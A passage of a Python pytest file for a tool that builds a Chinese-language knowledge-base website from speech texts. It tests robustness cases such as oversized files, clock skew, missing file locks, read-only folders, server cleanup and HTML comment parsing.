    [result] = add_files([inbox], corpus)
    assert result.status == "duplicate" and "a.txt" in result.message


def test_sigterm_to_kb_serve_removes_its_preview_folder(tmp_path):
    import socket

    project = tmp_path / "proj"
    project.mkdir()
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(ROOT / "docs", project / "docs")
    make_corpus(project / "corpus", {"a.txt": SPEECH, "print.yaml": "pdf: false\n"})
    temporary = tmp_path / "tmp"
    temporary.mkdir()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    serve = subprocess.Popen(
        [sys.executable, "-m", "build_kb", "serve", "--dev-addr", str(port), "--cache-dir", str(tmp_path / "cache")],
        cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env={**os.environ, "TMPDIR": str(temporary)},
    )
    try:
        for line in serve.stdout:
            if "提供浏览" in line:  # 知识库网站已在 http://…/ 提供浏览
                break
        assert f"http://127.0.0.1:{port}/" in line
        assert [p.name[:9] for p in temporary.iterdir() if not p.name.startswith(".")] == ["kb-serve-"]
        serve.send_signal(signal.SIGTERM)
        serve.wait(timeout=60)
    finally:
        serve.kill()
    assert [p.name for p in temporary.iterdir() if "kb-serve-" in p.name] == []


def test_a_gigabyte_file_in_the_corpus_is_not_read(tmp_path):
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH})
    with open(corpus / "镜像.txt", "wb") as f:
        f.truncate(1 << 30)  # sparse: takes no disk space
    kb_ = build_knowledge_base(corpus)
    assert [s.source.rel_path for s in kb_.speeches] == ["a.txt"]
    assert [str(p) for p in kb_.problems] == ["镜像.txt：有 1024 MB，不像一篇讲话（上限 64 MB），未读取；请拆分它，或把它移出语料文件夹"]


def test_edits_are_seen_whatever_the_clock_says(tmp_path):
    """Clock skew: a file edited with its old (or a future) modification time is still rebuilt."""
    corpus = make_corpus(tmp_path / "corpus", {"a.txt": SPEECH, "b.txt": OTHER})
    future = time.time() + 10 * 365 * 86400
    os.utime(corpus / "a.txt", (future, future))
    build_site(ROOT / "mkdocs.yml", tmp_path / "site", corpus_dir=corpus, cache_dir=tmp_path / "cache")
    (corpus / "a.txt").write_text(SPEECH.replace("首位", "前头"), encoding="utf-8")  # same length
    os.utime(corpus / "a.txt", (future, future))
    kb_ = build_site(ROOT / "mkdocs.yml", tmp_path / "site", corpus_dir=corpus, cache_dir=tmp_path / "cache")
    assert kb_ is not None and any("前头" in p.text for s in kb_.speeches for p in s.all_paragraphs())


def test_a_network_mount_without_locks_still_builds_and_imports(tmp_path, monkeypatch, caplog):
    import fcntl

    def no_locks(fd, operation):
        raise OSError(errno.ENOLCK, "No locks available")

    monkeypatch.setattr(fcntl, "flock", no_locks)
    corpus = fresh_corpus(tmp_path, {"a.txt": SPEECH})
    source = tmp_path / "b.txt"
    source.write_text(OTHER, encoding="utf-8")
    assert [r.status for r in add_files([source], corpus)] == ["imported"]
    assert len(build_site(ROOT / "mkdocs.yml", tmp_path / "site", corpus_dir=corpus).speeches) == 2
    assert sum("不支持文件锁（网络盘？）" in r.getMessage() for r in caplog.records) == 2


def test_kb_add_into_a_read_only_corpus_is_one_line(tmp_path, monkeypatch):
    corpus = fresh_corpus(tmp_path)
    source = tmp_path / "b.txt"
    source.write_text(OTHER, encoding="utf-8")
    real_open = os.open

    def read_only(path, flags, *args):
        if flags & os.O_CREAT:
            raise OSError(errno.EROFS, "Read-only file system", str(path))
        return real_open(path, flags, *args)

    monkeypatch.setattr(os, "open", read_only)
    with pytest.raises(KbError, match="语料文件夹不可写（只读的盘或没有权限），无法导入"):
        add_files([source], corpus)


def test_an_odd_character_in_mkdocs_yml_is_one_line(tmp_path):
    (tmp_path / "m.yml").write_text('site_name: "换\x0b行"\n', encoding="utf-8")
    run = kb("build", "--config", str(tmp_path / "m.yml"), "--site-dir", str(tmp_path / "site"))
    assert run.returncode == 1 and run.stderr.count("\n") == 1 and "Traceback" not in run.stderr
    assert "special characters are not allowed" in run.stderr


def test_a_lock_removed_by_its_holder_is_taken_anew_by_the_waiter(tmp_path):
    """The lock files leave nothing behind, and a waiter never shares a lock with a newcomer."""
    import threading

    from build_kb.store import held_lock

    lock, order, waiting = tmp_path / ".site.lock", [], threading.Event()

    def second():
        with held_lock(lock, on_wait=waiting.set):
            order.append("second")

    with held_lock(lock):
        thread = threading.Thread(target=second)
        thread.start()
        assert waiting.wait(10)
        order.append("first")
    thread.join(10)
    assert order == ["first", "second"] and not lock.exists()


def test_comments_between_a_page_s_blocks_are_stepped_over_not_read_as_blocks():
    """A saved page's `<!-- … -->` right after a subhead the extractor dropped, or beside a row of pictures, was
    read as the block after (lxml refuses text_content() on a comment) and the page refused as damaged."""
    from build_kb.ingest.convert import _captions_under_pictures, _restore_subheads

    html = ('<html><body><div><p>同志们：</p><h3>一、提高站位，统一思想</h3><!-- 小标题结束 --><?php echo 1; ?>'
            '<p>全校各级党组织要认真学习上级精神，把思想统一到党委的部署上来。</p></div></body></html>')
    text = "同志们：\n全校各级党组织要认真学习上级精神，把思想统一到党委的部署上来。"
    assert _restore_subheads(html, text) == (
        "同志们：\n一、提高站位，统一思想\n全校各级党组织要认真学习上级精神，把思想统一到党委的部署上来。", {"一、提高站位，统一思想": 1})
    pictures = ('<html><body><div><p>会议强调，要抓好落实。</p><!-- 图 --><p><img src="a.jpg"></p><!-- 图 --><p><img src="b.jpg"></p>'
                '<p style="text-align:center">会议现场</p><p>会议要求，各单位要把任务分解到人。</p></div></body></html>')
    assert _captions_under_pictures(pictures) == {"会议现场"}
